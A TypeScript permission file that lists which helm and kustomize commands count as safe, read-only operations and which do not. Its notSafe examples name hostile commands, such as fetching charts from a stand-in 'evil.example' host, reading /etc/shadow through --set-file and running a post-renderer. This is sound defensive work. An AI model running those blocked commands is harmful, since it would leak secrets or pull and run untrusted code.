import type { Tool } from "./tool.ts";

const ask = { operands: "text", service: true } as const;
const bare = { operands: "none", service: true } as const;

/** A directory or archive here, or a chart of a repository that was added: no address, and nothing outside. */
const CHART = "^(?!.*(^|/)\\.\\.(/|$))(\\./|[A-Za-z0-9_])[\\w./-]*$|^\\.$";
/** Not --set-file, and no address: a plugin may fetch or decrypt what it names. */
const VALUES = "-f@ --values@ --set: --set-string: --set-json: --set-literal:";

export const HELM_TOOLS: readonly Tool[] = [
  {
    names: ["helm"],
    // Not --kubeconfig, --kube-apiserver, --kube-token, --repository-config, --registry-config.
    options: "-n: -h --namespace: --kube-context: --debug --burst-limit# --qps# --help",
    operands: "none",
    clusters: "equals",
    optionsAnywhere: true,
    uses: [
      {
        commands: ["list", "ls"],
        options:
          "-a -A -d -f: -l: -m# -o: -q -r --all --all-namespaces --date --deployed --failed --filter: --max# --no-headers --offset# --output: --pending --reverse --selector: --short " +
          "--superseded --time-format: --uninstalled --uninstalling",
        ...bare,
      },
      // Not as JSON or YAML: those hold the values, and with them passwords.
      {
        commands: ["status"],
        options: "-o=table --output=table --revision# --show-desc --show-resources",
        ...ask,
        maxOperands: 1,
      },
      { commands: ["history", "hist"], options: "-o: --max# --output:", ...ask },
      { commands: ["get notes", "get metadata"], options: "-o: --output: --revision#", ...ask },
      {
        commands: ["show", "inspect"].flatMap((word) =>
          ["chart", "values", "readme", "crds", "all"].map((part) => `${word} ${part}`),
        ),
        options: "--version: --devel --jsonpath:",
        ...ask,
        operandForm: CHART,
      },
      {
        commands: ["search repo", "search hub"],
        options:
          "-l -o: -r --devel --fail-on-no-result --list-repo-url --max-col-width# --output: --regexp --version: --versions",
        ...ask,
      },
      {
        commands: ["version", "repo list", "repo ls", "plugin list", "plugin ls"],
        options: "-c -o: --client --output: --short --template:",
        ...bare,
      },
      {
        commands: ["dependency list", "dependency ls", "dep list", "dep ls"],
        options: "--max-col-width#",
        operands: "paths",
      },
      {
        commands: ["lint"],
        options: `${VALUES} --strict --quiet --with-subcharts --kube-version: --skip-schema-validation`,
        operands: "paths",
        operandForm: CHART,
        refuses: "://",
        recursive: ["*"],
      },
      {
        // Not --output-dir, --post-renderer, --dependency-update, --repo, --validate: they write, run, fetch or ask the cluster. No network.
        commands: ["template"],
        options:
          `${VALUES} -a: -g -s: --api-versions: --create-namespace --description: --devel --generate-name --include-crds --is-upgrade --kube-version: --name-template: --no-hooks ` +
          "--release-name --show-only: --skip-crds --skip-schema-validation --skip-tests --version:",
        operands: "text",
        operandForm: CHART,
        refuses: "://",
        reliesOnJail: "data",
      },
      { commands: ["completion"], options: "", ...ask, operandForm: "^(bash|zsh|fish|powershell)$" },
      { commands: ["help"], options: "", ...ask },
      {
        commands:
          "install upgrade uninstall rollback create package pull push repo dependency template lint get show search plugin test".split(
            " ",
          ),
        options: "",
        ...bare,
        requires: ["--help", "-h"],
      },
    ],
    examples: {
      safe: [
        "helm list -A",
        "helm ls -n prod -o json",
        "helm status web",
        "helm status prune",
        "helm history web --max 5",
        "helm get notes web",
        "helm show values bitnami/redis",
        "helm show chart ./chart",
        "helm search repo redis --versions",
        "helm repo list",
        "helm version --short",
        "helm lint ./chart -f values.yaml",
        "helm template web ./chart --set image.tag=1.2",
        "helm template ./chart -f values-dev.yaml --show-only templates/deployment.yaml",
        "helm dependency list ./chart",
        "helm upgrade --help",
      ],
      notSafe: [
        "helm upgrade --install web ./chart",
        "helm install web ./chart",
        "helm uninstall web",
        "helm rollback web 1",
        "helm get values web",
        "helm get all web",
        "helm get manifest web",
        "helm status web -o json",
        "helm show values https://evil.example/x.tgz",
        "helm show values oci://evil.example/x",
        "helm show values x --repo https://evil.example",
        "helm show values ../other",
        "helm template ./chart --post-renderer ./x",
        "helm template ./chart --output-dir out",
        "helm template ./chart --set-file a=/etc/shadow",
        "helm template ./chart -f secrets://values.yaml",
        "helm template ./chart -f /etc/x",
        "helm template oci://evil.example/x",
        "helm --kubeconfig=/tmp/x list",
        "helm list --kube-apiserver=https://evil.example",
        "helm repo add x https://evil.example",
        "helm repo update",
        "helm plugin install x",
        "helm pull x",
        "helm env",
        "helm status $x",
        "helm foo",
      ],
    },
  },
  {
    names: ["kustomize"],
    options: "-h --help",
    operands: "none",
    optionsAnywhere: true,
    uses: [
      {
        // Not --enable-*, --load-restrictor, -o. No network: an address among its bases would be fetched.
        commands: ["build"],
        options: "",
        operands: "paths",
        operandForm: "^(\\.{1,2}(/[^?]*)?|[\\w-]+(/[^?]*)?)$",
        maxOperands: 1,
        recursive: ["*"],
        reliesOnJail: "data",
      },
      { commands: ["version"], options: "--short", operands: "none" },
    ],
    examples: {
      safe: ["kustomize build overlays/dev", "kustomize build .", "kustomize version"],
      notSafe: [
        "kustomize build --enable-alpha-plugins --enable-exec x",
        "kustomize build --enable-helm x",
        "kustomize build -o out x",
        "kustomize build https://evil.example/x",
        "kustomize build github.com/evil/x",
        "kustomize edit set image x",
      ],
    },
  },
];
